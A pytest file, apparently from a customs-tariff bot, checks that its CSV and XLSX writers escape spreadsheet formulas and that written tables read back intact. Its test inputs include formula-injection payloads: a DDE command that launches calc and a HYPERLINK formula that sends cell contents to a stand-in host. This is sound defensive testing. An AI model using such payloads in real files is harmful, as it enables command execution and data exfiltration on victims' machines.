"""Tables are written so that they can be read back, and no cell is a formula."""

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from bot.lines.files.reading import read_file
from bot.lines.files.writing import write_csv, write_xlsx
from bot.lines.validation import ImportedRow

HEADER = ("HTS code", "Origin", "Label", "Duty", "Next change")
ATTACKS = (
    '=cmd|"/c calc"!A1',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    " =1+1",
)


def rows(label: str) -> list[tuple[str, str, str, Decimal, date]]:
    return [("8507.60.00", "CN", label, Decimal("40.90"), date(2027, 1, 1))]


def read_cells(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return list(sheet[2])


@pytest.mark.parametrize("label", ATTACKS)
def test_no_cell_of_a_csv_begins_as_a_formula(label: str) -> None:
    text = write_csv(HEADER, rows(label)).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert cells[2].startswith("'")
    assert cells[3:] == ["40.90", "2027-01-01"]


@pytest.mark.parametrize("label", ATTACKS)
def test_no_cell_of_a_workbook_is_a_formula(label: str) -> None:
    cells = read_cells(write_xlsx("Lines", HEADER, rows(label)))
    assert all(one.data_type != "f" for one in cells)
    assert str(cells[2].value).startswith("'")


@pytest.mark.parametrize("label", ["cells", "Zubehör für Geräte", "電池", *ATTACKS])
def test_a_written_table_is_read_back(label: str) -> None:
    wanted = (ImportedRow(2, "8507.60.00", "CN", label.strip()),)
    assert read_file("a.xlsx", write_xlsx("Lines", HEADER, rows(label))).rows == wanted
    assert read_file("a.csv", write_csv(HEADER, rows(label))).rows == wanted


def test_numbers_and_days_stay_numbers_and_days() -> None:
    cells = read_cells(write_xlsx("Lines", HEADER, rows("x")))
    assert cells[3].value == pytest.approx(40.9)
    assert cells[4].is_date


def test_characters_that_a_workbook_may_not_have_are_removed() -> None:
    assert read_cells(write_xlsx("Lines", HEADER, rows("a\x00b\x07c")))[2].value == "abc"
